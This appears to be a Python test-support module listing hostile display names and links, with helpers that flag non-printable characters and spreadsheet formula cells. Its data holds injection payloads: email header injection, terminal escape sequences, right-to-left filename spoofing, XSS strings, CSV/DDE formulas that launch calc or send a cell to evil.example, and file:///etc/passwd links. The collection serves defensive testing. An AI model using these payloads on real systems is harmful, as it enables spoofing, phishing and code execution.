"""Names that somebody chose to do harm with, and what none of them may do in a medium."""

from __future__ import annotations

import csv
import io
import re

ESC, BELL = "\x1b", "\x07"
NAMES = (
    "=?utf-8?q?=0d=0aBcc:_v@x.example=0d=0a=0d=0a<h1>body</h1>?=",
    "=?us-ascii?b?DQpCY2M6IHZAeC5leGFtcGxlDQoNCmJvZHk=?=",
    "x =?utf-8?q?=0aX-Evil:_1?= =?utf-8?q?=0d=0aBcc:_v@x.example?=",
    "shop\r\nBcc: v@x.example\r\n\r\n<h1>body</h1>",
    f"shop{ESC}]0;title{BELL}{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\",
    f"shop{ESC}[2J{ESC}[1;31mroot",
    "shop\x9b31mred\x9d0;title\x9c",
    "shop\nforged-id\tforged-workspace\tforged-name",
    "shop\rforged\x0bforged\x0cforged\x85forged\u2028forged\u2029forged",
    "invoice \u202efdp.exe\u2066\u2069\u200f\u200b\ufeff",
    "[red]shop[/red] [link=https://evil.example]pay[/link] [/] [bold",
    ":bomb: :boom:",
    "<!channel> & <https://evil.example|pay> @here *x* `y` </script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=cmd|'/C calc'!A1",
    '=HYPERLINK("https://evil.example?"&A1,"pay")',
    "+1+cmd|'/C calc'!A1",
    "-1+cmd|'/C calc'!A1",
    "@SUM(1+1)*cmd|'/C calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'a,"=1+1",b;=1+1;',
    "data: {}\n\nevent: state\ndata: {}",
    'x", reason="y"} 1\nbreakers_forged 1',
    "javascript:alert(1)",
)
"""No NUL among them: the API refuses it everywhere."""
LINKS = (
    "javascript:alert(1)",
    "data:text/html,x",
    "JaVaScRiPt://x/%0aalert(1)",
    "file:///etc/passwd",
    "//evil.example/{{value}}",
)


def is_plain(text: str, allowed: str = "") -> bool:
    """Whether a terminal shows all of it as characters, and nothing that is not seen."""
    return all(c.isprintable() or c in allowed for c in text)


def formulas(content: str) -> list[str]:
    """Cells that a spreadsheet may calculate, whichever of , and ; it takes for the separator."""
    number = re.compile(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?")
    starts = {",": '[\\s"]*[=+@\uff1d-]|[\t\r\n]', ";": '[\\s"]*[=+@\uff1d-]'}
    cells = (
        (cell, start)
        for mark, start in starts.items()
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=mark)
        for cell in row
    )
    return [cell for cell, start in cells if re.match(start, cell) and not number.fullmatch(cell)]
